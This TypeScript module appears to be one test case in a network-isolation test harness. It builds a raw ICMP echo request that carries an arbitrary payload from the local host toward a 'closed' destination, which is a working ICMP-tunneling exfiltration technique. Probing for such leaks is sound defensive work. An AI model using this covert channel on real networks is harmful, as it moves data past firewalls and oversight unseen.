import type { Attack } from '../../prove/attack.ts'
import { PROTOCOL } from '../../prove/frame.ts'
import { icmp, ip } from '../../prove/packet.ts'

export default {
  tries: 'carries data in echo requests',
  assumes: ['net_raw'],
  run: ({ packet, own, closed, payload }) => {
    const ends = { source: own[4], destination: closed[4] }
    packet(ip({ ...ends, protocol: PROTOCOL.icmp }, icmp(ends, 8, 0, Buffer.concat([new Uint8Array(4), payload]))))
  },
} satisfies Attack
